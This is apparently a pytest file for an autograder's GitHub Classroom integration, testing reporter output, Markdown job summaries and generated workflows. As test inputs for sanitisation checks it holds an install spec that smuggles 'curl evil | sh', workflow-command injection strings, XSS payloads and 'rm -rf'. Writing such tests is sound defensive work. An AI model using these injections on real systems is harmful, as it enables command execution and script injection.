"""GitHub Classroom: runner outputs checked against the grading reporter's documented contract
(tests/classroom_reporter.py), the job summary as a Markdown renderer shows it, the workflow
`mlgrade init classroom` writes, and grading a repository's last commit."""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import zipfile
from pathlib import Path

import classroom_reporter
import pytest
import yaml
from conftest import ROOT

from grader.cli.main import main
from grader.core.results import QuestionResult, Status, SubmissionResult
from grader.platforms.classroom import head_snapshot, workflow_yaml
from grader.render.classroom import (
    actions_log_text,
    classroom_results,
    github_output,
    job_summary,
    points,
    runner_ids,
)
from grader.rubric import parse_rubric

RUBRIC = """
name: classroom test
questions:
  - {id: q1a, title: first, points: 0.5, checks: [{kind: file_present, file: a.txt}]}
  - {id: q1-b, title: second, points: 2, checks: [{kind: file_present, file: b.txt}]}
  - {id: q1_b, title: third, points: 1, checks: [{kind: file_present, file: c.txt}]}
  - {id: hid, title: hidden one, points: 3, hidden: true, checks: [{kind: file_present, file: d.txt}]}
"""


def run_reporter(runners: dict[str, str]) -> tuple[int, str, dict]:
    """The reporter on ``runner -> base64``, as the workflow's last step runs it: exit code, log, and the
    report notice's JSON (what Classroom records)."""
    env = {f"{r.upper()}_RESULTS": b64 for r, b64 in runners.items()}
    rep = classroom_reporter.run(",".join(runners), env)
    return rep.exit_code, rep.log, classroom_reporter.classroom_points(rep.log)


def parse_output(text: str) -> dict[str, str]:
    out = {}
    for line in text.splitlines():
        key, _, value = line.partition("=")
        out[key] = value
    return out


def record(scores: dict[str, tuple[float, float, Status]], relative: set[str] = frozenset(),
           reason: str = "why") -> SubmissionResult:
    qs = [QuestionResult(id=q, title=f"title {q}", score=s, max_score=m, status=st, reason=reason,
                         relative=0.8 if q in relative else None) for q, (s, m, st) in scores.items()]
    return SubmissionResult(student="s", source="-", total=sum(q.score for q in qs),
                            max_total=sum(q.max_score for q in qs), questions=qs)


def test_runner_ids_are_letters_and_digits_and_unique():
    rubric = parse_rubric(RUBRIC)
    assert runner_ids(rubric) == {"q1a": "q1a", "q1-b": "q1b", "q1_b": "q1b2", "hid": "hid"}


def test_partial_credit_reaches_the_reporter_and_the_job_stays_green(tmp_path):
    rubric = parse_rubric(RUBRIC)
    result = record({"q1a": (0.5, 0.5, Status.PASSED), "q1-b": (0.75, 2, Status.PARTIAL),
                     "q1_b": (0.0, 1, Status.FAILED)})
    runners = classroom_results(result, rubric, {"hid"})
    text = github_output(runners)
    lines = text.splitlines()
    assert len(lines) == 4 and all(re.fullmatch(r"[a-z0-9]+=[A-Za-z0-9+/=]+", ln) for ln in lines)
    decoded = {k: json.loads(base64.b64decode(v)) for k, v in parse_output(text).items()}
    assert decoded["hid"]["max_score"] == 0 and "(pending)" in decoded["hid"]["tests"][0]["name"]
    assert all(r["status"] == "pass" and r["tests"][0]["line_no"] == 0 for r in decoded.values())
    assert points(runners) == (1.25, 3.5)
    code, log, notice = run_reporter(parse_output(text))
    assert code == 0, log
    assert notice == {"totalPoints": 1.25, "maxPoints": 3.5}


def test_a_class_relative_question_is_pending_and_a_grader_error_is_not_the_students(tmp_path):
    rubric = parse_rubric(RUBRIC)
    result = record({"q1a": (0.5, 0.5, Status.PASSED), "q1-b": (1.6, 2, Status.PARTIAL),
                     "q1_b": (0.0, 1, Status.ERROR)}, relative={"q1-b"})
    runners = classroom_results(result, rubric, {"hid"})
    assert runners["q1b"]["max_score"] == 0 and "relative to the best" in runners["q1b"]["tests"][0]["message"]
    assert runners["q1b2"]["tests"][0]["status"] == "error" and runners["q1b2"]["status"] == "pass"
    code, log, notice = run_reporter(parse_output(github_output(runners)))
    assert code == 0, log
    assert notice == {"totalPoints": 0.5, "maxPoints": 1.5}


def test_student_text_cannot_issue_workflow_commands(tmp_path):
    hostile = "bad\n::add-mask::secret\n  ::error title=x::you failed\n\x1b[2J::set-output name=q1a::99\n::stop-commands::x"
    rubric = parse_rubric(RUBRIC)
    result = record({"q1a": (0, 0.5, Status.ERROR), "q1-b": (0, 2, Status.FAILED), "q1_b": (0, 1, Status.FAILED)},
                    reason=hostile)
    runners = classroom_results(result, rubric, {"hid"})
    for r in runners.values():
        assert not re.search(r"^\s*::", r["tests"][0]["message"], re.M)
    assert actions_log_text("::x\n ::y") == ": :x\n : :y"
    code, log, notice = run_reporter(parse_output(github_output(runners)))
    commands = [ln for ln in log.splitlines() if ln.lstrip().startswith("::")]
    assert all(ln.startswith("::notice title=Autograding") for ln in commands), commands
    summary = job_summary(result, runners, rubric)
    assert "<img" not in job_summary(record({"q1a": (0, 0.5, Status.FAILED)}, reason="<img src=x onerror=alert(1)>"),
                                     runners, rubric)
    assert "\x1b" not in summary


def encoded(result: dict) -> str:
    return base64.b64encode(json.dumps(result).encode()).decode()


def test_the_reporter_adds_scores_of_runners_with_a_max_score_and_announces_them():
    """The reporter's documented contract, which the tests hold mlgrade's output to."""
    runners = {
        "a": {"version": 1, "status": "pass", "max_score": 2, "tests": [
            {"name": "a1", "status": "fail", "score": 0.75, "line_no": 0},
            {"name": "a2", "status": "pass", "score": 0.5, "line_no": 0}]},
        "b": {"version": 1, "status": "pass", "max_score": 0, "tests": [{"name": "b", "status": "pass", "score": 9}]},
        "c": {"version": 1, "status": "pass", "tests": [{"name": "c", "status": "pass", "score": 9}]},  # no max_score
        "d": {"version": 1, "status": "pass", "max_score": 0.1, "tests": [{"name": "d", "status": "pass", "score": 0.2}]},
    }
    rep = classroom_reporter.run("a,b,c,d", {f"{r.upper()}_RESULTS": encoded(v) for r, v in runners.items()})
    assert rep.exit_code == 0 and rep.classroom == (0.75 + 0.5 + 0.2, 2.1)
    notices = [ln for ln in rep.log.splitlines() if ln.startswith("::notice")]
    assert notices == ["::notice title=Autograding complete::Points 1.45/2.1",
                       '::notice title=Autograding report::{"totalPoints":1.45,"maxPoints":2.1}']
    # the console table: passed tests / tests x max_score, not the scores Classroom records
    assert rep.table == (1 / 2 * 2 + 1 / 1 * 0.1, 2.1) and rep.table[0] != rep.classroom[0]
    # a runner that says fail or error fails the job; only zero maximums announce nothing
    failing = {**runners["a"], "status": "fail"}
    assert classroom_reporter.run("a", {"A_RESULTS": encoded(failing)}).exit_code == 1
    assert classroom_reporter.run("a", {"A_RESULTS": encoded({**failing, "status": "error"})}).exit_code == 1
    zero = classroom_reporter.run("b", {"B_RESULTS": encoded(runners["b"])})
    assert zero.classroom is None and "::notice" not in zero.log
    # runner ids are letters and digits; every runner needs its variable, in base64
    assert classroom_reporter.run("q1-b", {"Q1-B_RESULTS": encoded(runners["a"])}).exit_code == 1
    assert classroom_reporter.run("a,b", {"A_RESULTS": encoded(runners["a"])}).exit_code == 1
    assert classroom_reporter.run("a", {"A_RESULTS": "{not base64}"}).exit_code == 1


@pytest.mark.parametrize(("x", "js"), [(2.0, "2"), (0.1 + 0.2, "0.30000000000000004"), (1e-7, "1e-7"),
                                       (0.000001, "0.000001"), (1e21, "1e+21"), (123.5, "123.5"), (-0.5, "-0.5")])
def test_the_reporter_writes_numbers_as_javascript_does(x, js):
    assert classroom_reporter.js_number(x) == js


def test_classroom_records_mlgrades_points_where_the_consoles_table_shows_other_numbers():
    rubric = parse_rubric(RUBRIC)
    result = record({"q1a": (0.25, 0.5, Status.PARTIAL), "q1-b": (1.5, 2, Status.PARTIAL),
                     "q1_b": (1.0, 1, Status.PASSED)})
    runners = classroom_results(result, rubric, {"hid"})
    env = {f"{r.upper()}_RESULTS": b64 for r, b64 in parse_output(github_output(runners)).items()}
    rep = classroom_reporter.run(",".join(runners), env)
    assert rep.exit_code == 0
    assert rep.classroom == points(runners) == (2.75, 3.5)
    assert rep.table == (1.0, 3.5)  # partial credit counts as 0 there: not what Classroom records


def test_the_repository_carries_no_other_projects_code():
    """Test clients are the project's own code (tests/classroom_reporter.py), never a vendored copy."""
    if not (ROOT / ".git").exists():
        pytest.skip("not a git checkout")
    tracked = subprocess.run(["git", "-C", str(ROOT), "ls-files"], capture_output=True, text=True,
                             check=True).stdout.splitlines()
    vendored = [f for f in tracked if Path(f).name in ("UPSTREAM_COMMIT", "package.json", "package-lock.json")
                or (Path(f).name.upper().startswith(("LICENSE", "COPYING")) and "/" in f)]
    assert vendored == []


def rendered_text(markdown_text: str) -> tuple[list[str], list[list[str]], set[str]]:
    """A CommonMark renderer with GitHub's tables: the paragraphs' and headings' text, each table row's cells
    (``<br>`` as a newline), and every tag it produced."""
    from html.parser import HTMLParser

    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown_text)

    class Reader(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.tags: set[str] = set()
            self.blocks: list[str] = []
            self.rows: list[list[str]] = []
            self.cell: list[str] | None = None

        def handle_starttag(self, tag, attrs):
            self.tags.add(tag)
            if tag == "tr":
                self.rows.append([])
            elif tag in ("td", "th", "p", "h3"):
                self.cell = []
            elif tag == "br" and self.cell is not None:
                self.cell.append("\n")

        def handle_endtag(self, tag):
            if tag in ("td", "th") and self.cell is not None:
                self.rows[-1].append("".join(self.cell))
            elif tag in ("p", "h3") and self.cell is not None:
                self.blocks.append("".join(self.cell))

        def handle_data(self, data):
            if self.cell is not None:
                self.cell.append(data)

    reader = Reader()
    reader.feed(html)
    return reader.blocks, reader.rows, reader.tags


def test_the_job_summary_shows_student_text_as_typed_in_a_markdown_renderer():
    """GitHub renders the job summary as Markdown: apostrophes, tags, pipes, emphasis and code in a student's
    text are shown as typed, each question stays one table row, and no tag of the student's gets through."""
    hostile = ("it's `rm -rf` a|b *not bold* _nor this_ <script>alert('x')</script> [link](javascript:x) "
               "&amp; &#x27; \\| ~~gone~~ # not a heading\n- not a list\n1. nor this\n> quote\n=== <br> \\")
    rubric = parse_rubric(RUBRIC).model_copy(update={"name": "Ann's <i>class</i> # 1 | `x`"})
    result = record({"q1a": (0.25, 0.5, Status.PARTIAL), "q1-b": (0, 2, Status.FAILED), "q1_b": (1, 1, Status.PASSED)},
                    reason=hostile)
    result.questions[0].title = "Bob's *first* <b>one</b> | x"
    result.errors = ["couldn't read 'a.zip' <b>\n**x**"]
    runners = classroom_results(result, rubric, {"hid"})
    blocks, rows, tags = rendered_text(job_summary(result, runners, rubric))
    assert tags <= {"h3", "p", "strong", "table", "thead", "tbody", "tr", "th", "td", "br"}, tags
    assert blocks[0] == "mlgrade: Ann's <i>class</i> # 1 | `x`"
    assert blocks[-1] == "error: couldn't read 'a.zip' <b>\n**x**"
    body = rows[1:]
    assert [len(r) for r in body] == [3, 3, 3]
    assert body[0][0] == "q1a: Bob's *first* <b>one</b> | x"
    message = runners["q1a"]["tests"][0]["message"]
    assert "\n" in message and body[0][2] == message
    assert body[1][2] == hostile


def test_init_classroom_writes_a_workflow_for_the_rubric(tmp_path, capsys):
    repo = tmp_path / "template"
    repo.mkdir()
    rubric_file = tmp_path / "rubric.yaml"
    rubric_file.write_text(RUBRIC)
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo)]) == 0
    wf = yaml.safe_load((repo / ".github" / "workflows" / "classroom.yml").read_text())
    built = repo / ".github" / "mlgrade"  # the rubric's student build and mlgrade's student wheel
    assert sorted(p.name for p in built.iterdir()) == ["mlgrade-0.1.0-py3-none-any.whl", "rubric.yaml"]
    assert yaml.safe_load((built / "rubric.yaml").read_text())["questions"] == [
        {**q, "checks": [{"kind": "graded_by_instructor"}]} if q.get("hidden") else q
        for q in yaml.safe_load(RUBRIC)["questions"]]
    job = wf["jobs"]["run-autograding-tests"]
    steps = {s.get("name"): s for s in job["steps"]}
    assert any(s.get("uses", "").startswith("actions/checkout@") for s in job["steps"])
    setup = next(s for s in job["steps"] if s.get("uses", "").startswith("actions/setup-python@"))
    assert setup["with"]["cache"] == "pip"
    assert "bubblewrap" in steps["Install bubblewrap (the sandbox for student code)"]["run"]
    from grader import __version__
    install = steps[f"Install mlgrade {__version__} (its student wheel, committed in .github/mlgrade)"]["run"]
    assert install == "python -m pip install '.github/mlgrade/mlgrade-0.1.0-py3-none-any.whl'"  # never an index
    assert "mlgrade==" not in (repo / ".github" / "workflows" / "classroom.yml").read_text()
    grade = steps["Grade"]
    assert grade["id"] == "grade" and "mlgrade classroom ." in grade["run"] and ".github/mlgrade/rubric.yaml" in grade["run"]
    reporter = next(s for s in job["steps"] if s.get("uses", "").startswith("classroom-resources/autograding-grading-reporter@"))
    assert reporter["with"]["runners"] == "q1a,q1b,q1b2,hid"
    assert reporter["env"] == {f"{r.upper()}_RESULTS": f"${{{{ steps.grade.outputs.{r} }}}}" for r in ("q1a", "q1b", "q1b2", "hid")}
    assert "hidden questions" in capsys.readouterr().out
    # no silent overwrite; a hostile install spec is refused
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo)]) == 2
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo), "--force",
                 "--install", "mlgrade'; curl evil | sh; '"]) == 2
    assert main(["init", "classroom", "--rubric", str(rubric_file), "--repo", str(repo), "--force",
                 "--python", "three"]) == 2
    assert "on" in yaml.safe_load(workflow_yaml(parse_rubric(RUBRIC), "rubric.yaml", "mlgrade==1"))


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=Student", "-c", "user.email=s@example.edu",
                           *args], capture_output=True, text=True, check=True).stdout.strip()


def make_repo(path: Path, files: dict[str, bytes]) -> Path:
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    for name, data in files.items():
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        (path / name).write_bytes(data)
    git(path, "add", "-A")
    git(path, "commit", "-q", "-m", "hand in")
    return path


def test_classroom_grades_the_last_commit_not_the_work_tree(tmp_path, capsys):
    rubric_file = tmp_path / "rubric.yaml"
    rubric_file.write_text(RUBRIC)
    repo = make_repo(tmp_path / "repo", {"a.txt": b"a", "d.txt": b"d"})
    (repo / "b.txt").write_text("not committed")
    out, summary = tmp_path / "gh_output", tmp_path / "gh_summary"
    os.environ["GITHUB_STEP_SUMMARY"] = str(summary)
    try:
        code = main(["classroom", str(repo), "--rubric", str(rubric_file), "--output", str(out),
                     "--json", str(tmp_path / "r.json")])
    finally:
        del os.environ["GITHUB_STEP_SUMMARY"]
    assert code == 0
    printed = capsys.readouterr().out
    token = re.search(r"^::stop-commands::([0-9a-f]{32})$", printed, re.M).group(1)
    assert printed.rstrip().endswith(f"::{token}::")
    assert "Classroom points: 0.5/3.5; pending the instructor's grading: hid" in printed
    runners = {k: json.loads(base64.b64decode(v)) for k, v in parse_output(out.read_text()).items()}
    assert runners["q1b"]["tests"][0]["score"] == 0  # b.txt was never committed
    assert runners["hid"]["max_score"] == 0 and "hidden tests" in runners["hid"]["tests"][0]["message"]
    assert "| q1a: first | 0.5 / 0.5 |" in summary.read_text()
    tests = json.loads((tmp_path / "r.json").read_text())["tests"]
    assert [t["number"] for t in tests] == ["q1a", "q1-b", "q1_b", "hid"]
    assert tests[3]["score"] == 0 and "hidden tests" in tests[3]["output"]  # never run: d.txt is there
    # a student's own `mlgrade check` shows the hidden question as pending too
    assert main(["check", str(repo), "--rubric", str(rubric_file)]) == 0
    printed = capsys.readouterr().out
    assert "pending, not scored in this run: hid" in printed and "graded by your instructor" in printed
    assert head_snapshot(tmp_path, tmp_path / "x.zip") is None  # not a repository


def sample_files(zip_path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(zip_path) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist() if not i.is_dir()}


@pytest.mark.slow
def test_sample_class_points_equal_mlgrade_totals_in_the_reporter(tmp_path, samples_dir, capsys):
    for sample in sorted(samples_dir.glob("*.zip")):
        files = sample_files(sample) if zipfile.is_zipfile(sample) else {sample.name: sample.read_bytes()}
        repo = make_repo(tmp_path / sample.stem, files)
        out, res = tmp_path / f"{sample.stem}.out", tmp_path / f"{sample.stem}.json"
        assert main(["classroom", str(repo), "--rubric", str(ROOT / "rubric.yaml"), "--output", str(out),
                     "--json", str(res)]) == 0
        printed = capsys.readouterr().out
        tests = json.loads(res.read_text())["tests"]
        # mlgrade's own total and maximum, without the question scored relative to the class (pending)
        graded = [t for t in tests if t["number"] != "digits"]
        total, maximum = sum(t["score"] for t in graded), sum(t["max_score"] for t in graded)
        code, log, notice = run_reporter(parse_output(out.read_text()))
        assert code == 0, f"{sample.stem}: the reporter failed the job:\n{log}"
        assert notice["totalPoints"] == pytest.approx(total, abs=1e-9), sample.stem
        assert notice["maxPoints"] == pytest.approx(maximum, abs=1e-9) == 9
        from grader.render.common import fmt_points
        assert f"Classroom points: {fmt_points(total)}/9" in printed
